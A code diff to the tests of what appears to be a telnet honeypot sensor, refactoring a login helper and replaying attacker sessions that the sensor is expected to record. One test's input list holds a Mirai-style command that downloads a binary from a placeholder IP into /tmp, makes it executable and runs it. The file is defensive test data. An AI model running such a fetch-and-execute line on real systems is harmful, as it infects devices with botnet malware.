@@ -37,14 +37,6 @@ def closed_reasons(events: list[Event]) -> list[str]:
     return [str(body(e)["reason"]) for e in events if e.kind == "session.closed"]
 
 
-def login(client: RawClient, username: str, password: str) -> bytes:
-    client.read_until(b"login: ")
-    client.send(username.encode() + b"\r\n")
-    client.read_until(b"Password: ")
-    client.send(password.encode() + b"\r\n")
-    return client.read_until(b"# ")
-
-
 # -- against the running sensor ----------------------------------------------------------------
 
 def test_busybox_opening_is_busybox_telnetd(make_sensor) -> None:  # type: ignore[no-untyped-def]
@@ -58,7 +50,7 @@ def test_busybox_opening_is_busybox_telnetd(make_sensor) -> None:  # type: ignor
 def test_mirai_style_session_is_recorded(make_sensor) -> None:  # type: ignore[no-untyped-def]
     sensor = make_sensor(["telnet"], ssh=only_listed(("root", MIRAI_PASSWORD)))
     client = RawClient(sensor.port("telnet"), answer_options=True)
-    motd = login(client, "root", MIRAI_PASSWORD)
+    motd = client.telnet_login("root", MIRAI_PASSWORD)
     assert b"BusyBox v1.24.1" in motd and b"built-in shell (ash)" in motd
     lines = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI",
              "cd /tmp; /bin/busybox wget http://203.0.113.50/bins/mirai.mips; chmod 777 mirai.mips; ./mirai.mips",
@@ -115,7 +107,7 @@ def test_accept_after_attempts_counts_across_connections(make_sensor) -> None:  
         client.read_until(b"Login incorrect")
         client.close()
     client = RawClient(sensor.port("telnet"))
-    assert b"# " in login(client, "root", "three")
+    assert b"# " in client.telnet_login("root", "three")
     client.close()
     events = sensor.sink.wait_for(lambda evs: len([e for e in evs if e.kind == "session.closed"]) == 3)
     assert [(body(e)["password"], body(e)["success"]) for e in events if e.kind == "ssh.login"] == [
@@ -222,7 +214,7 @@ def test_hydra_attempts_are_recorded(tmp_path: Path) -> None:
 def test_command_cap_closes_the_session(make_sensor) -> None:  # type: ignore[no-untyped-def]
     sensor = make_sensor(["telnet"], ssh=only_listed(("root", "pw")), limits=Limits(max_commands=3))
     client = RawClient(sensor.port("telnet"))
-    login(client, "root", "pw")
+    client.telnet_login("root", "pw")
     client.send(b"id\r\nid\r\nid\r\nid\r\nid\r\n")
     screen = client.read_to_close()
     client.close()
